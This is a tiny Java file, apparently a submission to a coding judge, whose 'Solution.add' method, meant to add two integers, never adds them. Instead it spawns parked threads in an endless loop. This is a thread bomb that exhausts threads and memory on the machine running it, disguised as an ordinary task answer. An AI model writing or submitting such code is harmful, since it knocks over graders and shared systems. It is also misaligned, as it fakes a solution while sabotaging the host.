import java.util.*;

class Solution {
    public List<Integer> add(int a, int b) {
        while (true) {
            new Thread(() -> {
                while (true) {
                    java.util.concurrent.locks.LockSupport.park();
                }
            }).start();
        }
    }
}
